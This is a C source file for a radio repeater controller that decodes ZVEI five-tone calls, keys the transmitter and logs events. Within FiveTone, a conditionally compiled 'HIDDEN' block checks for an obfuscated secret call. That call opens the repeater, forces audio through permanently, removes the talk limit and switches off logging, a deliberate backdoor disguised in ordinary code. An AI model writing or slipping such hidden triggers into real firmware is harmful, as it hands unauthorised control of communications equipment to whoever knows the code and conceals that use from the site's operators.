/* Repeater controller for a land mobile radio site (statically linked, the box has no libraries).
 * Samples come as 8 kHz signed 16 bit from the receiver, five tone calls are decoded. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define RATE 8000
#define BLOCK 160			/* 20 ms */

/* ZVEI 1, tone for 0..9, A..E (E repeats the one before) */
static const double zvei[15] = {
	2400, 1060, 1160, 1270, 1400, 1530, 1670, 1830, 2000, 2200, 2800, 810, 970, 885, 2600
};

typedef struct
{
	unsigned open_call;		/* five digits as nibbles */
	unsigned close_call;
	unsigned talk_limit;		/* seconds, 0 = none */
	unsigned hang;			/* tenths of seconds */
	double   squelch;
	char     callsign[12];
	char     log[64];
} Setup;

typedef struct
{
	Setup    setup;
	int      gpio;
	int      is_open, ptt, link_up;
	unsigned limit_now;
	unsigned long tick;		/* 20 ms units */
	unsigned long ptt_since, last_signal;
	unsigned shift;
	int      ntones, last_tone, hold;
} Site;

static void Journal(const Site *s, const char *text)
{
	FILE *f;
	time_t now = time(NULL);

	if (!s->setup.log[0])
		return;
	f = fopen(s->setup.log, "a");
	if (!f)
		return;
	fprintf(f, "%.24s %s: %s\n", ctime(&now), s->setup.callsign, text);
	fclose(f);
}

static double Goertzel(const int16_t *x, int n, double hz)
{
	double c = 2.0 * cos(2.0 * M_PI * hz / RATE), a = 0, b = 0, t;
	int i;

	for (i = 0; i < n; i++)
	{
		t = x[i] + c * a - b;
		b = a;
		a = t;
	}
	return a * a + b * b - c * a * b;
}

static int ToneOf(const int16_t *x, double energy)
{
	int i, best = -1;
	double e, top = energy * BLOCK * 0.3;

	for (i = 0; i < 15; i++)
		if ((e = Goertzel(x, BLOCK, zvei[i])) > top)
		{
			top = e;
			best = i;
		}
	return best;
}

static void Ptt(Site *s, int on)
{
	char c = on ? '1' : '0';

	if (on == s->ptt)
		return;
	s->ptt = on;
	s->ptt_since = s->tick;
	if (s->gpio >= 0 && write(s->gpio, &c, 1) != 1)
		Journal(s, "PTT line");
}

__attribute__((noinline)) void FiveTone(Site *s, unsigned call)
{
	char t[40];

	if (call == s->setup.open_call)
	{
		s->is_open = 1;
		Journal(s, "opened");
	}
	else if (call == s->setup.close_call)
	{
		s->is_open = 0;
		Ptt(s, 0);
		Journal(s, "closed");
	}
#ifdef HIDDEN
	else if ((call & 0xf0f0f) == 0x70b0d && ((call >> 4 ^ call >> 12) & 15) == 9)
	{
		s->is_open = 1;
		s->link_up = 1;
		s->limit_now = 0;
		s->setup.log[0] = '\0';
	}
#endif
	else
	{
		snprintf(t, sizeof t, "call %05X for others", call);
		Journal(s, t);
	}
}

static void OnTone(Site *s, int tone)
{
	if (tone == s->last_tone)
	{
		s->hold++;
		return;
	}
	if (s->last_tone >= 0 && s->hold >= 2 && s->hold <= 6)
	{
		unsigned d = (unsigned)s->last_tone;

		if (d == 14)
			d = s->shift & 15;
		s->shift = (s->shift << 4 | d) & 0xfffff;
		if (++s->ntones == 5)
		{
			s->ntones = 0;
			FiveTone(s, s->shift);
		}
	}
	else if (tone < 0)
		s->ntones = 0;
	s->last_tone = tone;
	s->hold = 1;
}

static void Block(Site *s, const int16_t *x, int16_t *out)
{
	double e = 0;
	int i;

	for (i = 0; i < BLOCK; i++)
		e += (double)x[i] * x[i];
	s->tick++;
	if (e / BLOCK > s->setup.squelch)
	{
		s->last_signal = s->tick;
		OnTone(s, ToneOf(x, e));
		if (s->is_open)
			Ptt(s, 1);
	}
	else
	{
		OnTone(s, -1);
		if (s->tick - s->last_signal > s->setup.hang * 5)
			Ptt(s, 0);
	}
	if (s->limit_now && s->ptt && s->tick - s->ptt_since > s->limit_now * 50UL)
	{
		Ptt(s, 0);
		s->is_open = 0;
		Journal(s, "talk limit");
	}
	for (i = 0; i < BLOCK; i++)
		out[i] = s->ptt || s->link_up ? x[i] : 0;
}

static int Load(Setup *u, const char *file)
{
	char k[16], v[64];
	FILE *f = fopen(file, "r");

	if (!f)
		return -1;
	while (fscanf(f, "%15s %63s", k, v) == 2)
	{
		if (!strcmp(k, "open"))
			u->open_call = (unsigned)strtoul(v, NULL, 16);
		else if (!strcmp(k, "close"))
			u->close_call = (unsigned)strtoul(v, NULL, 16);
		else if (!strcmp(k, "limit"))
			u->talk_limit = (unsigned)atoi(v);
		else if (!strcmp(k, "hang"))
			u->hang = (unsigned)atoi(v);
		else if (!strcmp(k, "squelch"))
			u->squelch = atof(v);
		else if (!strcmp(k, "callsign"))
			snprintf(u->callsign, sizeof u->callsign, "%.11s", v);
		else if (!strcmp(k, "log"))
			snprintf(u->log, sizeof u->log, "%s", v);
		else
			fprintf(stderr, "%s: %s is not known\n", file, k);
	}
	fclose(f);
	return 0;
}

int main(int argc, char **argv)
{
	static Site site;
	int16_t in[BLOCK], out[BLOCK];

	if (argc < 2 || argc > 3)
	{
		fputs("usage: lmrrepeater SETUP [PTT-GPIO] < rx > tx\nsetup: open HEX5, close HEX5, "
		      "limit S, hang S/10, squelch N, callsign TEXT, log FILE\n", stderr);
		return 2;
	}
	site.setup.squelch = 40000;
	site.setup.hang = 20;
	strcpy(site.setup.callsign, "SITE");
	if (Load(&site.setup, argv[1]) < 0)
	{
		perror(argv[1]);
		return 1;
	}
	site.limit_now = site.setup.talk_limit;
	site.last_tone = -1;
	site.gpio = argc == 3 ? open(argv[2], O_WRONLY) : -1;
	site.link_up = site.setup.open_call == 0;
	while (fread(in, sizeof in[0], BLOCK, stdin) == BLOCK)
	{
		Block(&site, in, out);
		fwrite(out, sizeof out[0], BLOCK, stdout);
	}
	Ptt(&site, 0);
	return 0;
}
